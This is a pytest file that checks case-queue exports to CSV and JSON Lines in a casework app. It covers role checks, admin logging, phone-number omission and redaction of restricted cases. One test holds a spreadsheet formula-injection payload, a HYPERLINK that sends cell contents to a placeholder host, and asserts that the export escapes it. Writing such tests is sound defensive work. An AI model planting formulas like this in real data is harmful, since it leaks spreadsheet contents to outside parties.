"""Exporting the filtered queue as CSV and JSON Lines: from the queue page and from
`casework export cases`, with the queue's filters, on the admin log, never with a phone."""

from __future__ import annotations

import csv
import io
import json

from casework.admin.models import AdminLogEntry
from casework.reporters.models import Reporter

PHONE = "+243990123456"


def _cases(db, make_case, make_site):
    site = make_site()
    reporter = Reporter.for_phone(PHONE, country="CD", language="sw")
    db.session.add(reporter)
    db.session.commit()
    return {
        "sec": make_case(
            category="SEC",
            level=1,
            site=site,
            reporter=reporter,
            title="Soldiers tax diggers",
            description="Askari wanatoza kodi",
        ),
        "chl": make_case(category="CHL", level=2, title="Children at the pit"),
        "closed": make_case(category="ENV", level=3, status="closed", title="River"),
        "restricted": make_case(category="SA-SGBV", level=1, title="Restricted title"),
    }


def _log(db) -> list[AdminLogEntry]:
    db.session.expire_all()
    return list(db.session.scalars(db.select(AdminLogEntry).order_by(AdminLogEntry.seq)))


def test_a_supervisor_downloads_the_filtered_queue_as_csv(db, login_as, make_case, make_site):
    cases = _cases(db, make_case, make_site)
    client, supervisor = login_as("supervisor")
    html = client.get("/cases?level=1").get_data(as_text=True)
    assert "/cases/export.csv?level=1" in html and "/cases/export.jsonl?level=1" in html

    response = client.get("/cases/export.csv?level=1")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    body = response.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    # Level 1: the SEC case and the restricted one (supervisors read restricted cases).
    assert {r["reference"] for r in rows} == {cases["sec"].reference, cases["restricted"].reference}
    sec = next(r for r in rows if r["reference"] == cases["sec"].reference)
    assert sec["site_code"] == "CD-NK-RUB" and sec["province"] == "Nord-Kivu"
    assert sec["description"] == "Askari wanatoza kodi" and sec["category"] == "SEC"
    assert PHONE not in body and PHONE[-9:] not in body

    [entry] = _log(db)
    assert entry.action == "cases.export" and entry.actor_id == supervisor.id
    assert entry.after == {"format": "csv", "filters": {"level": 1}}


def test_json_lines_carry_what_an_admin_may_read_and_nothing_restricted(
    db, login_as, make_case, make_site
):
    cases = _cases(db, make_case, make_site)
    client, _ = login_as("admin")
    response = client.get("/cases/export.jsonl")
    assert response.status_code == 200
    lines = [json.loads(line) for line in response.get_data(as_text=True).splitlines()]
    references = {line["reference"] for line in lines}
    assert cases["restricted"].reference not in references  # admins never read SA-SGBV
    assert references == {cases[k].reference for k in ("sec", "chl", "closed")}
    assert "Restricted title" not in response.get_data(as_text=True)
    assert all("phone" not in key for key in lines[0])


def test_officers_viewers_and_committee_members_cannot_export(db, login_as, make_case):
    make_case(category="SEC")
    for role in ("officer", "viewer", "committee"):
        client, _ = login_as(role)
        assert client.get("/cases/export.csv").status_code == 403, role
    assert _log(db) == []
    client, _ = login_as("supervisor")
    assert client.get("/cases/export.xlsx").status_code == 404


def test_the_command_line_exports_with_filters_as_a_named_supervisor(
    db, runner, make_user, make_case, make_site, tmp_path
):
    cases = _cases(db, make_case, make_site)
    supervisor = make_user("supervisor")
    out = tmp_path / "cases.jsonl"
    result = runner.invoke(
        args=[
            "export",
            "cases",
            "--as",
            supervisor.email,
            "--format",
            "jsonl",
            "--status",
            "closed",
            "--output",
            str(out),
        ]
    )
    assert result.exit_code == 0, result.output
    assert "1 cases exported." in result.output
    [line] = [json.loads(x) for x in out.read_text().splitlines()]
    assert line["reference"] == cases["closed"].reference and line["resolution"] == "resolved"
    [entry] = _log(db)
    assert entry.after == {"format": "jsonl", "filters": {"status": "closed"}}

    result = runner.invoke(
        args=["export", "cases", "--as", supervisor.email, "--site", "cd-nk-rub"]
    )
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["reference"] for r in rows] == [cases["sec"].reference]
    assert PHONE not in result.output


def test_the_command_line_refuses_an_account_that_may_not_export(db, runner, make_user):
    officer = make_user("officer")
    result = runner.invoke(args=["export", "cases", "--as", officer.email])
    assert result.exit_code == 1
    assert "not an enabled supervisor or admin" in result.output
    assert _log(db) == []


def test_a_report_written_as_a_formula_stays_text_in_the_csv(db, login_as, make_case):
    make_case(category="SEC", level=2, description='=HYPERLINK("http://x.example/?"&A2,"open")')
    make_case(category="SEC", level=2, description="+243 pays 5000 francs", title="@chief")
    client, _ = login_as("supervisor")
    rows = list(csv.DictReader(io.StringIO(client.get("/cases/export.csv").get_data(as_text=True))))
    descriptions = {r["description"] for r in rows}
    assert '\'=HYPERLINK("http://x.example/?"&A2,"open")' in descriptions
    assert "'+243 pays 5000 francs" in descriptions and "'@chief" in {r["title"] for r in rows}
    # JSON Lines is data, not a spreadsheet: kept as written
    lines = client.get("/cases/export.jsonl").get_data(as_text=True)
    assert '"description": "=HYPERLINK' in lines


def test_restricted_cases_are_exported_without_their_text(db, login_as, make_case):
    case = make_case(
        category="SA-SGBV",
        level=1,
        title="Restricted title",
        description="Restricted report text",
        location_text="Behind the depot",
    )
    client, _ = login_as("supervisor")
    body = client.get("/cases/export.csv").get_data(as_text=True)
    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row["reference"] == case.reference and row["restricted"] == "True"
    assert (row["title"], row["description"], row["location"]) == ("", "", "")
    assert "Restricted report text" not in body and "Behind the depot" not in body
